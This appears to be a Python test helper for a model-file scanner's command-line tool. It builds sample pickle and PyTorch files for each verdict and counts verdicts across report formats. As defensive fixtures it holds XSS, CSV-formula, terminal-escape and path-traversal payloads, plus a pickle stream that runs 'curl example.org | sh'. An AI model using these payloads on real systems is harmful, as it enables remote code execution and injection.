"""A folder with one file of every kind of verdict, and with every name that an attacker would like to see in a report; and how to count in each format."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

from tests.cli.inputs import BROKEN, EVIL, OURS, PAGE, PLAIN, calling, state_dict, torch_zip
from tests.cli.test_scan import assemble_names

HOSTILE = (
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "line\nbreak\r::error file=x::fake",
    "::error::first",
    "::stop-commands::pwn",
    "pipe|in|table",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "]]><!--",
    "&lt;already&gt; &amp; &#60;",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "[click](http://evil.example)",
    "![img](http://evil.example/x.png)",
    "`code` **bold** ~~gone~~ @everyone #1",
    "{0} {{1}} %SRCROOT% %0A%25",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u200b\ufeff\u00ad",
    "\x00\x01\x08\x0b\x0c\x1f\x7f\x85\u2028\ufffe\uffff",
    "\U000e0041tag",
    "/../../etc/passwd",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "</title></style></pre></code>",
    "a,b;c\td",
)
SHELL_HOSTILE_PATHS = (
    "=1+1.pt",
    "-rf.pt",
    "a|b.pt",
    "::error::x.pt",
    "<b>bold<",
    "new\nline.pt",
    "\x1b[2Jclear.pt",
    "\u202etp.exe",
    "quote'\".pt",
    "[x](y).pt",
    "per%20cent,comma.pt",
    "ümläut 你好.pt",
    "latin\udcff.pt",  # a byte that is no UTF-8
)


def plain_folder(root: Path) -> dict[str, str]:
    """A file of every verdict below `root`; returns each one's."""
    files: dict[str, tuple[bytes, str]] = {
        "plain.pkl": (PLAIN, "accepted"),
        "state_dict.pt": (state_dict(), "accepted"),
        "evil.pt": (EVIL, "rejected"),
        "ours.pt": (OURS, "rejected"),
        "mixed.pt": (calling("posix.system", "acme.Config", "acme.Other"), "rejected"),
        "evil_zip.pt": (torch_zip("PROTO 2\nGLOBAL posix system\nBINUNICODE 'curl example.org | sh'\nTUPLE1\nREDUCE\nSTOP"), "rejected"),
        "broken.pt": (BROKEN, "rejected"),
        "cut.pt": (state_dict()[:300], "inconclusive"),
        "page.pt": (PAGE, "inconclusive"),
        "empty.pt": (b"", "inconclusive"),
    }
    for name, (data, _) in files.items():
        (root / name).write_bytes(data)
    (root / "dangling.pt").symlink_to("nowhere")
    return {**{name: verdict for name, (_, verdict) in files.items()}, "dangling.pt": "inconclusive"}


def hostile_file() -> bytes:
    """A stream that calls every hostile name."""
    return assemble_names(tuple(f"acme.{name}" for name in HOSTILE))


# ---- counts ---------------------------------------------------------------------------------------------------------------------------------


def counts_of(format_: str, text: str) -> Counter[str]:
    """Files of each verdict, counted from what the report lists of them, not from its summary, wherever it lists all of them."""
    if format_ in ("json", "json-v1"):
        return Counter(result["verdict"] for result in json.loads(text)["results"])
    if format_ == "sarif":
        return Counter(artifact["properties"]["verdict"] for artifact in json.loads(text)["runs"][0]["artifacts"] if "parentIndex" not in artifact)
    if format_ == "cyclonedx":
        properties = [{each["name"]: each["value"] for each in component["properties"]} for component in json.loads(text)["components"]]
        return Counter(each["safeload:verdict"] for each in properties)
    if format_ == "junit":
        cases = ET.fromstring(text).findall(".//testcase")
        kinds = {"failure": "rejected", "error": "inconclusive", "system-out": "accepted"}
        return Counter(kinds[case[0].tag] for case in cases if case[0].tag in kinds)
    if format_ == "csv":
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        return Counter(row["verdict"] for row in rows if row["finding"] in ("0", "1"))
    found = re.search(r"files?: ([\d,]+) accepted,\s+([\d,]+) rejected,\s+([\d,]+) inconclusive", text_of(text) if format_ == "html" else text)
    assert found is not None, format_
    return Counter(dict(zip(("accepted", "rejected", "inconclusive"), (int(number.replace(",", "")) for number in found.groups()), strict=True)))


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def text_of(page: str) -> str:
    """The text of a page, without its tags."""
    parser = _Text()
    parser.feed(page)
    return "".join(parser.parts)
